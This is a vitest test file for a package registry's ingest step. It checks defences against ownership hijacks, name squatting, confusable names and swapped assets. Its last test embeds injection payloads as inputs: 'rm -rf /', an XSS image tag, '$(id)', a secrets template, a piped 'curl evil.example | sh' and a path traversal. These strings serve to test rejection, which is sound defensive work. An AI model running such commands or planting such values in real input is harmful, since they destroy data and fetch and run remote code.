import { expect, test } from 'vitest';
import { parseName } from '../../src/manifest/name.ts';
import { packagePaths } from '../../src/sparse/path.ts';
import { judgeTransfer } from '../../src/sparse/transfer.ts';
import { IngestScene, NOW, type Repository, told } from './ingest-scene.ts';

const ANYONE = 'publishers: anyone\ncool-down: { hours: 0 }\n';

/** What the run says about everything that was asked for. */
async function asked(scene: IngestScene, ...places: readonly string[]): Promise<readonly string[]> {
  for (const place of places) scene.request(`### Repository\n\n${place}\n`);
  return told((await scene.run()).outcomes);
}

test('a repository that was transferred is held', async () => {
  await using scene = await IngestScene.open();
  const fmt = scene.repository('acme/fmt');
  await scene.release(fmt, { name: 'fmt', version: '1.0.0' });
  await scene.run();
  scene.github.transferRepository(fmt, 'stranger');
  await scene.release(fmt, { name: 'fmt', version: '1.1.0' });
  expect(told((await scene.run()).outcomes)).toEqual(['refused OWNER_CHANGED']);
  expect(scene.versions('index/3/f/fmt')).toEqual(['fmt@1.0.0']);
});

/** What the form *manage* does: the repository as it is now takes the place of those on record, or stands beside them. */
function entrusted(scene: IngestScene, repository: Repository, name: string, add = false): void {
  const path = packagePaths(parseName(name), 'cargo').owner;
  const host = new URL(scene.github.url).host;
  const [owner = ''] = repository.fullName.split('/');
  const to = { host, id: repository.id, owner_id: repository.ownerId, owner, full_name: repository.fullName };
  const verdict = judgeTransfer(
    { name: parseName(name), to, add },
    new Map([path, 'config.json'].map((one) => [one, scene.file(one)])),
  );
  if (verdict.kind === 'change') scene.github.commit(scene.index, 'main', Object.fromEntries(verdict.changes));
}

test('what was held is taken by itself once the maintainers confirm the transfer, and not before', async () => {
  await using scene = await IngestScene.open();
  const fmt = scene.repository('acme/fmt');
  await scene.release(fmt, { name: 'fmt', version: '1.0.0' });
  await scene.release(fmt, { name: 'two', version: '1.0.1' });
  await scene.run();
  scene.github.transferRepository(fmt, 'stranger');
  await scene.release(fmt, { name: 'fmt', version: '1.1.0' });
  await scene.release(fmt, { name: 'two', version: '1.1.1' });
  expect(told((await scene.run()).outcomes)).toEqual(['refused OWNER_CHANGED', 'refused OWNER_CHANGED']);
  expect(told((await scene.run()).outcomes)).toEqual([]);
  entrusted(scene, fmt, 'fmt');
  expect(told((await scene.run()).outcomes)).toEqual(['published fmt@1.1.0', 'refused OWNER_CHANGED']);
  expect(told((await scene.run()).outcomes)).toEqual([]);
  entrusted(scene, fmt, 'two');
  expect(told((await scene.run()).outcomes)).toEqual(['published two@1.1.1']);
});

test('a repository that the maintainers let publish a package needs not ask again', async () => {
  await using scene = await IngestScene.open('publishers: [owner, partner]\n');
  await scene.release(scene.repository('acme/fmt'), { name: 'fmt', version: '1.0.0' });
  await scene.run();
  const partner = scene.repository('partner/fmt');
  await scene.release(partner, { name: 'fmt', version: '1.1.0' });
  expect(told((await scene.run()).outcomes)).toEqual(['refused NOT_OWNER']);
  expect(told((await scene.run()).outcomes)).toEqual([]);
  entrusted(scene, partner, 'fmt', true);
  expect(told((await scene.run()).outcomes)).toEqual(['published fmt@1.1.0']);
});

test('a renamed repository keeps its package, and who takes its old name gets nothing', async () => {
  await using scene = await IngestScene.open(ANYONE);
  const fmt = scene.repository('somebody/fmt');
  await scene.release(fmt, { name: 'fmt', version: '1.0.0' });
  expect(await asked(scene, 'somebody/fmt')).toEqual(['published fmt@1.0.0']);
  scene.github.renameRepository(fmt, 'format');
  const squatter = scene.repository('somebody/fmt');
  await scene.release(squatter, { name: 'fmt', version: '6.6.6' });
  await scene.release(fmt, { name: 'fmt', version: '1.1.0' });
  expect(told((await scene.run()).outcomes)).toEqual(['published fmt@1.1.0']);
  expect(await asked(scene, 'somebody/fmt')).toEqual(['refused NOT_OWNER']);
});

test('a login that was given up and registered again inherits nothing', async () => {
  await using scene = await IngestScene.open(ANYONE);
  await scene.release(scene.repository('ada/tools'), { name: 'tools', version: '1.0.0' });
  await asked(scene, 'ada/tools');
  scene.github.deleteAccount('ada');
  await scene.release(scene.repository('ada/tools'), { name: 'tools', version: '1.0.1' });
  expect(told((await scene.run()).outcomes)).toEqual([]);
  expect(await asked(scene, 'ada/tools')).toEqual(['refused NOT_OWNER']);
});

test('a fork cannot claim the name of its parent first', async () => {
  await using scene = await IngestScene.open(ANYONE);
  const parent = scene.repository('project/engine');
  const fork = scene.repository('mallory/engine', { parent });
  await scene.release(fork, { name: 'engine', version: '6.6.6' });
  expect(await asked(scene, 'mallory/engine')).toEqual(['refused FORK_CLAIM']);
});

test('a release whose tag is no ref of its repository is refused', async () => {
  await using scene = await IngestScene.open();
  const fmt = scene.repository('acme/fmt');
  await scene.release(fmt, { name: 'fmt', version: '1.0.0' });
  fmt.git.refs.delete('refs/tags/v1.0.0');
  expect(told((await scene.run()).outcomes)).toEqual(['refused TAG_MISSING']);
});

test('an archive with the manifest of another package is refused', async () => {
  await using scene = await IngestScene.open();
  const fmt = scene.repository('acme/fmt');
  await scene.release(fmt, { name: 'zlib', version: '1.0.0', asset: 'fmt-1.0.0.tar.gz' });
  expect(told((await scene.run()).outcomes)).toEqual(['refused ARCHIVE_MISMATCH']);
});

test('a name that looks like that of somebody else is refused, and one of the same owner is not', async () => {
  await using scene = await IngestScene.open(ANYONE);
  await scene.release(scene.repository('project/graphics'), { name: 'graphics', version: '1.0.0' });
  expect(await asked(scene, 'project/graphics')).toEqual(['published graphics@1.0.0']);
  await scene.release(scene.repository('mallory/graph1cs'), { name: 'graph1cs', version: '1.0.0' });
  await scene.release(scene.repository('project/graphic'), { name: 'graphic', version: '1.0.0' });
  expect(await asked(scene, 'mallory/graph1cs', 'project/graphic')).toEqual([
    'published graphic@1.0.0',
    'refused NAME_CONFUSABLE',
  ]);
});

test('a twin that differs in a separator alone is refused', async () => {
  await using scene = await IngestScene.open(ANYONE);
  await scene.release(scene.repository('project/my-lib'), { name: 'my-lib', version: '1.0.0' });
  await scene.release(scene.repository('mallory/my_lib'), { name: 'my_lib', version: '1.0.0' });
  await asked(scene, 'project/my-lib');
  expect(await asked(scene, 'mallory/my_lib')).toEqual(['refused NAME_TAKEN']);
});

test('a name that another registry is known for needs a scope', async () => {
  await using scene = await IngestScene.open(ANYONE);
  await scene.release(scene.repository('mallory/lodash'), { name: 'lodash', version: '1.0.0' });
  await scene.release(scene.repository('mallory/own'), { name: '@mallory/lodash', version: '1.0.0' });
  expect(await asked(scene, 'mallory/lodash', 'mallory/own')).toEqual([
    'published @mallory/lodash@1.0.0',
    'refused NAME_CONFUSABLE',
  ]);
});

test("somebody else's scope is refused", async () => {
  await using scene = await IngestScene.open(ANYONE);
  await scene.release(scene.repository('mallory/fmt'), { name: '@acme/fmt', version: '1.0.0' });
  expect(await asked(scene, 'mallory/fmt')).toEqual(['refused NOT_OWNER']);
});

test('a new name of a young account waits, and is taken in time without being asked for', async () => {
  await using scene = await IngestScene.open('publishers: anyone\n');
  const tool = scene.repository('young/tool');
  scene.github.clock.advance(3_600_000);
  await scene.release(tool, { name: 'tool', version: '1.0.0' });
  expect(await asked(scene, 'young/tool')).toEqual(['refused NAME_COOLING']);
  const refusal = JSON.parse(scene.file('refusals.jsonl', 'log') ?? '');
  expect(refusal.until).toBe('2026-11-23T13:00:00Z');
  scene.github.clock.set(Date.parse(NOW) + 80 * 3_600_000);
  expect(told((await scene.run()).outcomes)).toEqual(['published tool@1.0.0']);
});

test('a license that the registry does not take is refused', async () => {
  await using scene = await IngestScene.open('licenses: { allowed: [MIT, Apache-2.0] }\n');
  const fmt = scene.repository('acme/fmt');
  await scene.release(fmt, { name: 'fmt', version: '1.0.0', manifest: 'license: "GPL-3.0-only"\n' });
  await scene.release(fmt, { name: 'fmt', version: '1.1.0', manifest: 'license: "MIT OR GPL-3.0-only"\n' });
  expect(told((await scene.run()).outcomes)).toEqual(['published fmt@1.1.0', 'refused LICENSE_REFUSED']);
});

test('a version waits for what it requires, also within one batch, and is taken when that is there', async () => {
  await using scene = await IngestScene.open();
  const app = scene.repository('acme/app');
  const base = scene.repository('acme/base');
  await scene.release(app, { name: 'app', version: '1.0.0', manifest: 'requires: { base: "^2.0.0" }\n' });
  await scene.release(base, { name: 'base', version: '1.0.0' });
  expect(told((await scene.run()).outcomes)).toEqual(['published base@1.0.0', 'refused DEPENDENCY_MISSING']);
  expect(told((await scene.run()).outcomes)).toEqual([]);
  await scene.release(base, { name: 'base', version: '2.0.0' });
  await scene.release(app, { name: 'app', version: '1.1.0', manifest: 'requires: { base: "^2.0.0" }\n' });
  expect(told((await scene.run()).outcomes)).toEqual(['published app@1.1.0', 'published base@2.0.0']);
  expect(told((await scene.run()).outcomes)).toEqual(['published app@1.0.0']);
  expect(scene.file('refusals.jsonl', 'log')).toBe('');
});

test('a private repository is not taken, and its name is not told', async () => {
  await using scene = await IngestScene.open(ANYONE);
  scene.repository('secret/tool', { visibility: 'private' });
  expect(await asked(scene, 'secret/tool')).toEqual([]);
  const [issue] = scene.index.issues;
  expect(issue?.comments[0]?.body).toMatch(/REQUEST_INVALID[\s\S]*does not exist, or is not public/);
});

test('a file that is replaced after it was downloaded is not committed', async () => {
  await using scene = await IngestScene.open();
  const fmt = scene.repository('acme/fmt');
  await scene.release(fmt, { name: 'fmt', version: '1.0.0' });
  const log: string[] = [];
  const running = scene.run({ log });
  // just before the last look at the releases
  Object.defineProperty(log, 'push', {
    value(message: string) {
      if (!message.startsWith('Reading 1 releases again')) return 0;
      const [release] = fmt.releases;
      const [old] = release?.assets.splice(0) ?? [];
      if (old !== undefined) release?.assets.push({ ...old, id: old.id + 1 });
      return 1;
    },
  });
  expect(told((await running).outcomes)).toEqual(['failed ASSET_CHANGED']);
  expect(scene.file('index/3/f/fmt')).toBeUndefined();
  expect(scene.index.branch('log')).toBeUndefined();
});

test('what a request says beside the repository does nothing, and an answer brings no text of others to life', async () => {
  await using scene = await IngestScene.open(ANYONE);
  const evil = scene.repository('mallory/evil');
  const name = `x"; rm -rf / #\`\`\`\n@acme/owners <img src=x onerror=alert(1)>`;
  await scene.release(evil, { name: 'evil', version: '1.0.0', manifest: `homepage: ${JSON.stringify(name)}\n` });
  scene.request(
    '### Repository\n\nmallory/evil\n\n### Repository\n\nacme/other\n\n```yaml\npublishers: anyone\n```\n$(id) ${{ secrets.X }}',
  );
  scene.request('### Repository\n\nmallory/evil; curl evil.example | sh\n');
  scene.request('### Repository\n\n../../acme/registry\n');
  await scene.run();
  const [first, second, third] = scene.index.issues.map(({ comments }) => comments[0]?.body ?? '');
  expect(first).toContain('MANIFEST_INVALID');
  const outside = (first ?? '').replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, '');
  expect(outside).not.toMatch(/[@<](?!!-- clyde-ingest -->)|img|rm -rf/);
  expect(second).toContain('REQUEST_INVALID');
  expect(third).toContain('REQUEST_INVALID');
});
